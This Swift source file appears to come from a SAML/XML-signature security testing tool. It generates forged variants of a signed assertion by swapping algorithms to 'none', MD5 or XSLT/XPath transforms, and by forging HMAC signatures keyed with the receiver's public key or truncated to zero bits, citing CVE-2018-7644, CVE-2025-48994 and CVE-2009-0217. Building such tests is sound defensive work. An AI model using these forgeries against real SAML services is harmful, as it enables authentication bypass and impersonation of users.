import CanonicalXML
import SAMLFormats
import XMLSignature

/// Signatures by other algorithms than those that the receiver trusts.
extension Original {
  /// - Parameter key: The public key of the receiver's trust, which an attacker knows.
  /// - Returns: The variants; none where the signature lacks a part.
  func otherAlgorithms(knowing key: TrustAnchor?) -> [Variant] {
    guard let signature, let parts = SignatureParts(of: signature, in: self) else { return [] }
    let transform = parts.lastTransform
    let changes: [(name: String, element: WrittenElement?, uri: String)] = [
      ("signature method none", parts.signatureMethod, "urn:none"),
      ("signature method RSA with MD5", parts.signatureMethod, Self.more + "rsa-md5"),
      ("digest method none", parts.digestMethod, "urn:none"),
      ("digest method MD5", parts.digestMethod, Self.more + "md5"),
      ("canonicalization method none", parts.canonicalizationMethod, "urn:none"),
      ("transform XSLT", transform, "http://www.w3.org/TR/1999/REC-xslt-19991116"),
      ("transform XPath", transform, "http://www.w3.org/TR/1999/REC-xpath-19991116"),
      ("transform Base64", transform, "\(DSigName.namespace)base64"),
    ]
    return changes.compactMap { name, element, uri in
      value("Algorithm", of: element?.element, uri).map {
        Variant(name, replacing([$0]).utf8, in: .algorithm)
      }
    } + macs(parts, key)
  }

  /// A forged assertion with an HMAC whose secret is the public key, in the forms that libraries pass it.
  private func macs(_ parts: SignatureParts, _ key: TrustAnchor?) -> [Variant] {
    let cve = ["CVE-2018-7644", "CVE-2025-48994"]
    var secrets: [(String, [UInt8])] = []
    if let key {
      secrets.append(("the public key as DER", key.publicKey.subjectPublicKeyInfo))
      let bare = TrustAnchor(publicKey: key.publicKey).pem
      secrets.append(("the public key as PEM", Array(bare.utf8)))
      if let certificate = key.certificate {
        secrets.append(("the certificate as DER", certificate.der))
        secrets.append(("the certificate as PEM", Array(key.pem.utf8)))
      }
    }
    let keyed = secrets.compactMap { name, secret in
      mac(parts, by: secret).map { Variant("HMAC with \(name)", $0, cve, in: .algorithm) }
    }
    let cut = mac(parts, by: [], truncated: true).map {
      Variant("HMAC of no bits", $0, ["CVE-2009-0217"], in: .algorithm)
    }
    return keyed + [cut].compactMap(\.self)
  }

  private func mac(
    _ parts: SignatureParts, by secret: [UInt8], truncated: Bool = false
  ) -> String? {
    let prefix = parts.signatureMethod.prefix
    let length = truncated ? parts.signatureMethod.sibling("HMACOutputLength", around: "0") : ""
    let hmac = "\(Self.more)hmac-sha256"
    let method =
      "<\(prefix)SignatureMethod Algorithm=\"\(hmac)\">\(length)</\(prefix)SignatureMethod>"
    guard let signedInfo = parts.signedInfoOfForged(method: method) else { return nil }
    let value = parts.signatureValue.content
    func document(_ base64: String) -> String {
      let signature = text(
        parts.signature.range,
        with: [(parts.signedInfo.range, signedInfo), (value, base64)])
      return replacing(forging(forged(signature: signature)))
    }
    guard !truncated else { return document("") }
    guard let bytes = parts.canonicalSignedInfo(of: document("")),
      let code = HMAC.sha256(of: bytes, by: secret)
    else { return nil }
    return document(SignatureParts.base64(code))
  }

  /// The beginning of the identifiers of further algorithms (RFC 4051 §2).
  private static let more = "http://www.w3.org/2001/04/xmldsig-more#"
}

/// HMAC with SHA-256 (RFC 2104 §2), for forgeries alone.
package enum HMAC {
  /// The code of bytes; nil where SHA-256 is not available.
  package static func sha256(of bytes: [UInt8], by secret: [UInt8]) -> [UInt8]? {
    do {
      var key = secret.count > blockSize ? try DigestMethod.sha256.digest(of: secret) : secret
      key += [UInt8](repeating: 0, count: blockSize - key.count)
      let inner = try DigestMethod.sha256.digest(of: key.map { $0 ^ 0x36 } + bytes)
      return try DigestMethod.sha256.digest(of: key.map { $0 ^ 0x5C } + inner)
    } catch {
      return nil
    }
  }

  /// The block of SHA-256 in bytes (FIPS 180-4 §1).
  private static let blockSize = 64
}
